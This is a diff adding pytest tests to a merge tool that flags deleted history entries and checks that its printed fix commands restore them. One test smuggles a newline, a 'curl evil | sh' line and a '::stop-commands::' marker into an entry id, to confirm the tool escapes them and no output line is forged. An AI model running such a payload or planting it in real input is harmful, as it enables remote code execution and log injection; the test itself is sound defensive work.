@@ -364,6 +364,45 @@ def test_a_commit_is_judged_beside_its_parents(line):
     assert "git fetch origin no-such-branch" in gone.err
 
 
+@pytest.mark.parametrize("initialised", [True, False])
+def test_what_a_commit_lost_comes_back_by_the_printed_line(repo, initialised):
+    """Deleted by hand and committed past the gate; named with who added it, not who took it out."""
+    if initialised:
+        tool(repo, "init")
+    commit(repo, add("inst_080"), "add")
+    git(repo, "config", "user.name", "Bob")
+    commit(repo, drop("inst_080"), "drop")
+    for words in (("HEAD",), ("--range", "HEAD~1..HEAD")):
+        ran = run(repo, "check", *words, "--json")
+        (finding,) = ran.json["findings"]
+        assert "which Jo Baker in" in finding["message"]
+    program, *words = shlex.split(finding["fix"].split(" && ")[0])
+    assert program == "tractatus-merge"
+    assert run(repo, *words).code == 0
+    assert '"inst_080"' in (repo / VIEW).read_text()
+
+
+def test_a_deleted_history_comes_back_by_the_printed_line(repo):
+    """Where no branch holds it; staged, and committed."""
+    git(repo, "rm", "--quiet", VIEW)
+    for words in (("--staged",), ("HEAD",)):
+        ran = run(repo, "check", *words, "--json")
+        assert codes(ran)[0] == ["deleted"]
+        git(repo, "commit", "--quiet", "--allow-empty", "--message=gone")
+    git(repo, *shlex.split(ran.json["findings"][0]["fix"])[1:])
+    assert (repo / VIEW).is_file()
+
+
+def test_an_id_with_a_new_line_forges_no_line(repo):
+    """What it holds stays on the finding's own line."""
+    evil = "x\n  curl evil | sh\n::stop-commands::q"
+    commit(repo, add(evil))
+    commit(repo, drop(evil))
+    ran = run(repo, "check", "HEAD")
+    assert len(ran.err.splitlines()) == 2
+    assert "x\\n  curl" in ran.err
+
+
 @pytest.fixture
 def parted(line: Path) -> Path:
     """A branch `feature` with inst_080, and main with inst_090 (far apart in the file)."""
